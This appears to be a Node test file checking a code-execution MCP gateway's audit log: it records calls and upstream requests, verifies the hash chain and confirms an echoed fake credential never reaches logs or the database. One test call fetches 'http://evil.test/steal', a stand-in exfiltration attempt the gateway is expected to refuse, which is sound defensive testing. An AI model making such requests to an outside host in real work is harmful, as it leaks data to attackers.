// The audit trail end to end: a real server with "audit": {"sqlite": ...} serves calls from the
// official MCP client against an upstream that echoes the credential it is given; then
// `codemode-mcp audit query|verify` read the records back. No record, and no byte of the
// database, may hold the credential.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { writeFileSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { BIN, SOURCE_DIR, run } from './harness.mjs';

const SECRET = 'sk-audit-e2e-7d1f0c9a3b5e4d21';

// An upstream that hands the credential back every way it can: in the body, in a header, and
// in the Location of a same-origin redirect the gateway follows.
async function startUpstream() {
  const server = createServer((req, res) => {
    const path = req.url.split('?')[0];
    if (path === '/to-product') {
      res.writeHead(302, { location: `/products/p2?auth=${encodeURIComponent(req.headers.authorization)}` });
      return res.end();
    }
    res.writeHead(path.startsWith('/products/') ? 200 : 404,
      { 'content-type': 'application/json', 'x-echo-auth': req.headers.authorization ?? '' });
    res.end(JSON.stringify({ path, youSent: req.headers.authorization }));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return server;
}

const sha256 = (text) => createHash('sha256').update(text, 'utf8').digest('hex');

describe('the audit trail through the real binary', () => {
  let upstream, dir, config;
  const calls = [];  // {tool, code}
  before(async () => {
    upstream = await startUpstream();
    dir = mkdtempSync(join(tmpdir(), 'codemode-audit-e2e-'));
    config = join(dir, 'config.json');
    writeFileSync(config, JSON.stringify({
      openapi: join(SOURCE_DIR, 'fixtures/markethub/openapi.json'),
      upstreams: [{ origin: `http://127.0.0.1:${upstream.address().port}`,
                    headers: { Authorization: 'Bearer ${E2E_SECRET}' } }],
      audit: { sqlite: 'audit.db', server: 'e2e-1' },
    }));
    const client = new Client({ name: 'audit-e2e', version: '7.0' });
    let stderr = '';
    const transport = new StdioClientTransport({
      command: BIN, args: ['--config', config],
      env: { ...process.env, E2E_SECRET: SECRET }, stderr: 'pipe',
    });
    transport.stderr.on('data', (d) => { stderr += d; });
    await client.connect(transport);
    const call = async (tool, code) => {
      calls.push({ tool, code });
      return client.callTool({ name: tool, arguments: { code } });
    };
    await call('search', 'async () => Object.keys(spec.paths).length');
    const product = await call('execute', "async () => (await fetch('/products/p1')).json()");
    assert.ok(JSON.stringify(product).includes('/products/p1'));
    await call('execute', "async () => { const r = await fetch('/to-product'); return [r.status, r.headers.get('x-echo-auth'), await r.text()]; }");
    await call('execute', "async () => { try { await fetch('http://evil.test/steal'); } catch (e) { return String(e); } }");
    await call('execute', "async () => { throw new Error('boom') }");
    await call('execute', 'not a function');
    await client.close();
    assert.ok(!stderr.includes(SECRET), 'the credential appeared in the server log');
    assert.match(stderr, /audit: recording to SQLite .*audit\.db as server e2e-1/);
    assert.match(stderr, /audit: 9 records written, 0 dropped/);
  });
  after(() => {
    upstream.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const query = async (...args) => {
    const r = await run(['audit', '--config', config, 'query', ...args]);
    assert.equal(r.code, 0, r.stderr);
    return r.stdout.trim().split('\n').filter(Boolean).map((line) => JSON.parse(line));
  };

  test('one record per tools/call, with who, what and how it ended', async () => {
    const records = await query('--kind', 'call');
    assert.equal(records.length, calls.length);
    records.forEach((r, i) => {
      assert.equal(r.tool, calls[i].tool);
      assert.equal(r.code, calls[i].code);
      assert.equal(r.code_sha256, sha256(calls[i].code));
      assert.equal(r.principal, 'stdio');
      assert.equal(r.client_name, 'audit-e2e');
      assert.equal(r.client_version, '7.0');
      assert.equal(r.transport, 'stdio');
      assert.equal(r.session, records[0].session);
      assert.equal(r.server, 'e2e-1');
      assert.match(r.id, /^[0-9a-f]{32}$/);
      assert.match(r.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
    });
    assert.deepEqual(records.map((r) => r.outcome), ['ok', 'ok', 'ok', 'ok', 'runtime', 'compile']);
    assert.equal(records[0].result_chars, 2);  // "10"
    assert.ok(records[1].run_us > 0);
    assert.ok(records[1].cpu_us > 0);
    assert.match(records[4].message, /boom/);
  });

  test('one record per gateway request, linked to its call, with the operation it matched', async () => {
    const calls = await query('--kind', 'call', '--tool', 'execute');
    const requests = await query('--kind', 'request');
    assert.equal(requests.length, 3);
    const [product, redirected, refused] = requests;
    assert.equal(product.call_id, calls[0].id);
    assert.equal(product.method, 'GET');
    assert.equal(product.origin, `http://127.0.0.1:${upstream.address().port}`);
    assert.equal(product.path, '/products/p1');
    assert.equal(product.operation, 'GET /products/{productId}');
    assert.equal(product.status, 200);
    assert.ok(product.bytes_received > 0);
    assert.equal(product.refusal, '');
    assert.equal(redirected.call_id, calls[1].id);
    assert.equal(redirected.path, '/to-product');
    assert.equal(redirected.status, 200);
    assert.equal(refused.call_id, calls[2].id);
    assert.equal(refused.status, 0);
    assert.equal(refused.path, 'http://evil.test/steal');
    assert.match(refused.refusal, /^policy: /);
  });

  test('query filters by path, outcome and principal, and prints a table', async () => {
    assert.deepEqual((await query('--path', '/products/')).map((r) => r.path), ['/products/p1']);
    assert.equal((await query('--outcome', 'refused')).length, 1);
    assert.equal((await query('--outcome', 'runtime', '--since', '1h')).length, 1);
    assert.equal((await query('--principal', 'nobody')).length, 0);
    const table = await run(['audit', '--config', config, 'query', '--format', 'table']);
    assert.equal(table.code, 0, table.stderr);
    const lines = table.stdout.trim().split('\n');
    assert.match(lines[0], /^TIME\s+SERVER#SEQ\s+PRINCIPAL/);
    assert.equal(lines.length, 1 + 9);
  });

  test('verify finds every chain intact', async () => {
    const r = await run(['audit', '--config', config, 'verify']);
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /^server e2e-1: records 1\.\.9, head [0-9a-f]{64}$/m);
    assert.match(r.stdout, /^intact: 9 records in 1 chain$/m);
  });

  test('the credential the upstream echoed is nowhere in the records or the database', async () => {
    const all = await run(['audit', '--config', config, 'query']);
    assert.ok(!all.stdout.includes(SECRET));
    assert.ok(!all.stdout.includes(encodeURIComponent(`Bearer ${SECRET}`)));
    for (const file of readdirSync(dir)) {
      if (!file.startsWith('audit.db')) continue;
      assert.ok(!readFileSync(join(dir, file)).includes(SECRET), `${file} holds the credential`);
    }
  });
});
